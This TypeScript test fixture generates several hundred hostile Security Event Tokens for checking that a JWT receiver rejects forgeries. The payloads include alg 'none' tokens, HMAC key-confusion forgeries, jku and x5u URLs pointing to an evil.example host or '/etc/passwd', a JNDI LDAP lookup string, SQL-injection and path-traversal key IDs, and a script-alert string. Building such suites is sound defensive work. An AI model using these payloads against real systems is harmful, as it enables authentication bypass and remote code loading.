import { createHmac } from 'node:crypto'
import { CompactSign, exportJWK, exportSPKI, generateKeyPair, type CryptoKey } from 'jose'
import { sessionRevoked } from './fake-transmitter.ts'

/** A SET that nobody may accept, and what is wrong with it. */
export interface HostileSet {
  readonly name: string
  readonly token: string
}

/** Whom the SETs pretend to come from. */
export interface Victim {
  readonly issuer: string
  readonly audience: string
  readonly privateKey: CryptoKey
  readonly publicKey: CryptoKey
}

const encode = (value: unknown): string =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')

type Claims = Record<string, unknown>

/** Every hostile SET we know of: several hundred. */
export async function hostileSets(victim: Victim): Promise<readonly HostileSet[]> {
  const context = await contextOf(victim)
  const groups = await Promise.all([
    symmetric(context),
    keysInTheHeader(context),
    keyNames(context),
    headerMembers(context),
    signatures(context),
    serializations(context),
    payloads(context),
    claimValues(context),
    subjects(context),
  ])
  return [...unsigned(context), ...groups.flat()]
}

interface Context extends Victim {
  readonly good: Claims
  readonly mine: { readonly privateKey: CryptoKey; readonly publicKey: CryptoKey }
  /** Signs any text with the true key, as its Transmitter would. */
  readonly sign: (payload: unknown, header?: object) => Promise<string>
}

async function contextOf(victim: Victim): Promise<Context> {
  const good = {
    iss: victim.issuer,
    aud: victim.audience,
    iat: Math.floor(Date.now() / 1000),
    jti: 'hostile',
    sub_id: { format: 'iss_sub', iss: victim.issuer, sub: 'alice' },
    events: { [sessionRevoked]: {} },
  }
  const sign = (payload: unknown, header: object = {}): Promise<string> =>
    new CompactSign(Buffer.from(typeof payload === 'string' ? payload : JSON.stringify(payload)))
      .setProtectedHeader({ alg: 'ES256', kid: 'k1', typ: 'secevent+jwt', ...header })
      .sign(victim.privateKey)
  return { ...victim, good, mine: await generateKeyPair('ES256'), sign }
}

function unsigned({ good }: Context): HostileSet[] {
  const names = ['none', 'None', 'NONE', 'nOnE', 'none ', '', 'null', undefined, null, 0, [], {}]
  return names.flatMap((alg) =>
    ['', 'AA', 'e30', encode('signature')].map((signature) => ({
      name: `alg ${JSON.stringify(alg)} with the signature "${signature}"`,
      token: `${encode({ alg, typ: 'secevent+jwt', kid: 'k1' })}.${encode(good)}.${signature}`,
    })),
  )
}

async function symmetric({ good, publicKey }: Context): Promise<HostileSet[]> {
  const pem = await exportSPKI(publicKey)
  const jwk = await exportJWK(publicKey)
  const secrets: Record<string, string | Buffer> = {
    'the public key as PEM': pem,
    'the public key as PEM without its last line break': pem.trimEnd(),
    'the public key as DER': Buffer.from(pem.replace(/-----.*?-----|\n/g, ''), 'base64'),
    'the public JWK': JSON.stringify(jwk),
    'the published JWK': JSON.stringify({ ...jwk, kid: 'k1', alg: 'ES256', use: 'sig' }),
    'the x coordinate': Buffer.from(jwk.x ?? '', 'base64url'),
    'the x coordinate as text': jwk.x ?? '',
    'an empty secret': '',
  }
  return ['HS256', 'HS384', 'HS512', 'hs256'].flatMap((alg) =>
    Object.entries(secrets).map(([name, secret]) => {
      const input = `${encode({ alg, typ: 'secevent+jwt', kid: 'k1' })}.${encode(good)}`
      const hash = `sha${alg.slice(2)}`
      const signature = createHmac(hash, secret).update(input).digest('base64url')
      return { name: `${alg} with ${name}`, token: `${input}.${signature}` }
    }),
  )
}

async function keysInTheHeader({ good, mine }: Context): Promise<HostileSet[]> {
  const jwk = await exportJWK(mine.publicKey)
  const inline = `data:application/json,${encodeURIComponent(JSON.stringify({ keys: [jwk] }))}`
  const headers: object[] = [
    { jwk },
    { jwk, kid: undefined },
    { jwk: { ...jwk, kid: 'k1' } },
    { jwk: [jwk] },
    { jku: 'https://evil.example/jwks' },
    { jku: 'http://127.0.0.1:1/jwks' },
    { jku: inline },
    { x5u: 'https://evil.example/certificate' },
    { x5u: 'file:///etc/passwd' },
    { x5c: ['AAAA'] },
    { x5t: 'AAAA' },
    { 'x5t#S256': 'AAAA' },
    { jwk, jku: 'https://evil.example/jwks', kid: 'k1' },
    { epk: jwk },
    { key: jwk },
    { keys: [jwk] },
  ]
  return Promise.all(
    headers.flatMap((header) =>
      ['k1', 'mine'].map(async (kid) => ({
        name: `${Object.keys(header).join(', ')} in the header, kid ${kid}`,
        token: await new CompactSign(Buffer.from(JSON.stringify(good)))
          .setProtectedHeader({ alg: 'ES256', kid, typ: 'secevent+jwt', ...header })
          .sign(mine.privateKey),
      })),
    ),
  )
}

function keyNames({ good, mine }: Context): Promise<HostileSet[]> {
  const kids: unknown[] = [
    '../../../../dev/null',
    "k1' OR '1'='1",
    'k1\0',
    'k1\n',
    ' k1',
    'K1',
    '__proto__',
    'constructor',
    'toString',
    '',
    'x'.repeat(10_000),
    'https://evil.example/key',
    '${jndi:ldap://evil.example}',
    0,
    1,
    null,
    true,
    ['k1'],
    { toString: 'k1' },
    { kid: 'k1' },
  ]
  return Promise.all(
    kids.map(async (kid) => ({
      name: `kid ${JSON.stringify(kid)?.slice(0, 40)}`,
      token: await new CompactSign(Buffer.from(JSON.stringify(good)))
        .setProtectedHeader({ alg: 'ES256', typ: 'secevent+jwt', kid: kid as string })
        .sign(mine.privateKey),
    })),
  )
}

async function headerMembers({ good, sign, privateKey }: Context): Promise<HostileSet[]> {
  const types: unknown[] = [
    'JWT',
    'jwt',
    'at+jwt',
    'application/at+jwt',
    'logout+jwt',
    'dpop+jwt',
    'secevent+jwt ',
    'secevent',
    'application/secevent',
    'application/application/secevent+jwt',
    'text/secevent+jwt',
    '',
    null,
    1,
    ['secevent+jwt'],
    { typ: 'secevent+jwt' },
  ]
  const typed = await Promise.all(
    types.map(async (typ) => ({
      name: `typ ${JSON.stringify(typ)}`,
      token: await sign(good, { typ }),
    })),
  )
  const by = async (name: string, header: object): Promise<HostileSet> => {
    const text = encode({ alg: 'ES256', kid: 'k1', typ: 'secevent+jwt', ...header })
    const input = `${text}.${encode(good)}`
    const signature = await crypto.subtle.sign(
      { name: 'ECDSA', hash: 'SHA-256' },
      privateKey,
      Buffer.from(input),
    )
    return { name, token: `${input}.${Buffer.from(signature).toString('base64url')}` }
  }
  const critical = [['exp'], ['unknown'], [], 'exp', ['typ'], [1], null, ['unknown', 'unknown']]
  return [
    ...typed,
    ...(await Promise.all(
      critical.map((crit) => by(`crit ${JSON.stringify(crit)}`, { crit, unknown: 1, b64: true })),
    )),
    ...(await Promise.all(
      ['RS256', 'PS256', 'ES384', 'ES512', 'EdDSA', 'es256', 'ES256K', 'RSA-OAEP', 'dir', 7].map(
        (alg) => by(`alg ${alg} over an ES256 signature`, { alg }),
      ),
    )),
    await by('a payload that is not encoded', { b64: false, crit: ['b64'] }),
  ]
}

async function signatures({ good, sign }: Context): Promise<HostileSet[]> {
  const token = await sign(good)
  const [header = '', payload = '', signature = ''] = token.split('.')
  const bytes = Buffer.from(signature, 'base64url')
  const half = bytes.length / 2
  const made: Record<string, string> = {
    'no signature': '',
    'a signature of zeros': Buffer.alloc(bytes.length).toString('base64url'),
    'a signature of ones': Buffer.alloc(bytes.length, 255).toString('base64url'),
    'the first half': bytes.subarray(0, half).toString('base64url'),
    'the halves exchanged': Buffer.concat([bytes.subarray(half), bytes.subarray(0, half)]).toString('base64url'), // prettier-ignore
    'one byte less': bytes.subarray(0, -1).toString('base64url'),
    'one byte more': Buffer.concat([bytes, Buffer.alloc(1)]).toString('base64url'),
    'the signature twice': Buffer.concat([bytes, bytes]).toString('base64url'),
    'a signature of 20,000 bytes': Buffer.alloc(20_000, 7).toString('base64url'),
    'a signature that is not base64': '!!!!',
  }
  const flipped = Array.from({ length: 32 }, (_, index): HostileSet => {
    const changed = Buffer.from(bytes)
    changed[index * 2] = (changed[index * 2] ?? 0) ^ (1 << (index % 8))
    const text = changed.toString('base64url')
    return { name: `bit ${index} of the signature flipped`, token: `${header}.${payload}.${text}` }
  })
  const changedClaims: Claims[] = [
    { ...good, sub_id: { format: 'iss_sub', iss: 'x', sub: 'bob' } },
    { ...good, aud: [good['aud'], 'https://other.example'] },
    { ...good, events: { ...(good['events'] as object), 'https://more.example': {} } },
    { ...good, iat: 1 },
  ]
  return [
    ...Object.entries(made).map(([name, text]) => ({
      name,
      token: `${header}.${payload}.${text}`,
    })),
    ...flipped,
    ...changedClaims.map((claims, index) => ({
      name: `claims exchanged under the signature, ${index}`,
      token: `${header}.${encode(claims)}.${signature}`,
    })),
  ]
}

async function serializations({ good, sign }: Context): Promise<HostileSet[]> {
  const token = await sign(good)
  const [header = '', payload = '', signature = ''] = token.split('.')
  const made: Record<string, string> = {
    nothing: ' ',
    'one part': payload,
    'two parts': `${header}.${payload}`,
    'four parts': `${token}.AA`,
    'five parts, as if encrypted': `${token}.AA.AA`,
    'dots alone': '..',
    'many dots': '.'.repeat(5000),
    'JSON serialization': JSON.stringify({ protected: header, payload, signature }),
    'general JSON serialization': JSON.stringify({
      payload,
      signatures: [{ protected: header, signature }],
    }),
    'a JSON string': JSON.stringify(token),
    'a form': `SET=${token}`,
    'an Authorization value': `Bearer ${token}`,
    'a token inside a token': await sign(token),
    'line breaks inside': token.replace('.', '.\n'),
    'spaces inside': token.replace('.', ' . '),
    padding: `${header}=.${payload}.${signature}`,
    'a header of another alphabet': `${Buffer.from('{"alg":"none"}\u00ff').toString('base64')}.${payload}.${signature}`,
    'a header that is an array': `${encode([])}.${payload}.${signature}`,
    'a header that is null': `${encode('null')}.${payload}.${signature}`,
    'a header that is no JSON': `${encode('{alg:ES256}')}.${payload}.${signature}`,
    'a header with alg twice': `${encode('{"alg":"none","alg":"ES256","kid":"k1","typ":"secevent+jwt"}')}.${payload}.${signature}`,
    HTML: '<html><script>alert(1)</script></html>',
    'a NUL': `${token}\0`,
    unicode: 'ﷺ.ﷺ.ﷺ',
  }
  return Object.entries(made).map(([name, text]) => ({
    name: `serialization: ${name}`,
    token: text,
  }))
}

async function payloads({ good, sign }: Context): Promise<HostileSet[]> {
  const text = JSON.stringify(good)
  const open = text.slice(0, -1)
  const deep = (depth: number): string => `${'['.repeat(depth)}${']'.repeat(depth)}`
  const texts: Record<string, string> = {
    null: 'null',
    'a number': '1',
    'a text': '"text"',
    'an array': `[${text}]`,
    'an empty object': '{}',
    'no JSON': 'text',
    'cut off': text.slice(0, -5),
    'two documents': `${text}${text}`,
    'a comment': `/* */${text}`,
    'iss twice': `${open},"iss":"https://evil.example"}`,
    'events twice': `${open},"events":{}}`,
    'sub_id twice': `${open},"sub_id":{"format":"opaque","id":"x"}}`,
    'jti twice, the same': `${open},"jti":"hostile"}`,
    'a member twice deep inside': `${open},"x":{"a":{"b":1,"b":2}}}`,
    'an escaped member twice': `${open},"\\u0069ss":"https://evil.example"}`,
    '100 levels': `${open},"x":${deep(100)}}`,
    '10,000 levels': `${open},"x":${deep(10_000)}}`,
    'a trailing comma': `${open},}`,
    NaN: `${open},"x":NaN}`,
  }
  const made = await Promise.all(
    Object.entries(texts).map(async ([name, payload]) => ({
      name: `payload: ${name}`,
      token: await sign(payload),
    })),
  )
  return [...made, { name: 'payload: not UTF-8', token: await signBytes(good, sign) }]
}

/** A payload whose issuer ends in a byte that is no UTF-8. */
async function signBytes(good: Claims, sign: Context['sign']): Promise<string> {
  const token = await sign(good)
  const [header = '', , signature = ''] = token.split('.')
  const bytes = Buffer.from(JSON.stringify({ ...good, x: 'y' }))
  bytes[bytes.length - 3] = 0xff
  return `${header}.${bytes.toString('base64url')}.${signature}`
}

function claimValues({ good, sign }: Context): Promise<HostileSet[]> {
  const wrong: Record<string, unknown[]> = {
    iss: [
      undefined,
      null,
      1,
      '',
      [good['iss']],
      { iss: good['iss'] },
      `${String(good['iss'])}/`,
      `${String(good['iss'])}#`,
      `${String(good['iss'])} `,
      String(good['iss']).toUpperCase(),
      'https://evil.example',
    ],
    aud: [
      undefined,
      null,
      1,
      '',
      [],
      [[good['aud']]],
      { app: 1 },
      `${String(good['aud'])} `,
      String(good['aud']).toUpperCase(),
      ['https://other.example'],
    ],
    iat: [undefined, null, '1', '2026-01-01', [], {}, true],
    jti: [undefined, null, 1, '', [], {}, true],
    events: [undefined, null, [], {}, 'x', 1, [{}], { [sessionRevoked]: null }, { [sessionRevoked]: [] }, { [sessionRevoked]: 'x' }], // prettier-ignore
    sub: ['alice', '', null, 1],
    exp: [4_000_000_000, 1, null, '1'],
    nbf: [4_000_000_000],
  }
  return Promise.all(
    Object.entries(wrong).flatMap(([name, values]) =>
      values.map(async (value) => ({
        name: `claim ${name}: ${JSON.stringify(value)?.slice(0, 60)}`,
        token: await sign({ ...good, [name]: value }),
      })),
    ),
  )
}

function subjects({ good, sign }: Context): Promise<HostileSet[]> {
  const nested = (depth: number): object =>
    depth === 0
      ? { format: 'opaque', id: 'x' }
      : { format: 'aliases', identifiers: [nested(depth - 1)] }
  const wrong: unknown[] = [
    undefined,
    null,
    'alice',
    1,
    [],
    {},
    { format: 1 },
    { format: '' },
    { format: 'iss_sub' },
    { format: 'iss_sub', iss: 'https://idp.example' },
    { format: 'iss_sub', iss: 1, sub: 'x' },
    { format: 'email' },
    { format: 'email', email: 1 },
    { format: 'opaque' },
    { format: 'opaque', id: null },
    { format: 'phone_number', phone_number: 1 },
    { format: 'aliases' },
    { format: 'aliases', identifiers: [] },
    { format: 'aliases', identifiers: 'x' },
    { format: 'aliases', identifiers: [{ format: 'opaque' }] },
    nested(2),
    nested(50),
    { format: 'complex' },
    { format: 'complex', user: 'alice' },
    { format: 'complex', user: { format: 'complex', user: { format: 'opaque', id: 'x' } } },
    { format: 'complex', user: { id: 'x' } },
  ]
  return Promise.all(
    wrong.map(async (sub_id) => ({
      name: `sub_id ${JSON.stringify(sub_id)?.slice(0, 60)}`,
      token: await sign({ ...good, sub_id }),
    })),
  )
}
